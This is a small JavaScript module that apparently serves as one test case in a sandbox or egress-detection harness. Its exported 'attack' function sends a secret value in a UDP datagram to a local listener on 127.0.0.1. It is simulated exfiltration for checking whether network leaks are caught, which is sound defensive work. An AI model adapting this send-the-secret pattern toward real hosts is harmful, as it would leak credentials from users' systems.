// UDP datagram to the listener.
import dgram from 'node:dgram';
export const meta = { kind: 'network', evidence: 'udp' };
export default function attack(ctx) {
  return new Promise((resolve, reject) => {
    const socket = dgram.createSocket('udp4');
    socket.on('error', (error) => { socket.close(); reject(error); });
    socket.send(Buffer.from(ctx.secret), ctx.udpPort, '127.0.0.1', (error) => {
      socket.close();
      if (error) reject(error); else resolve('sent');
    });
  });
}
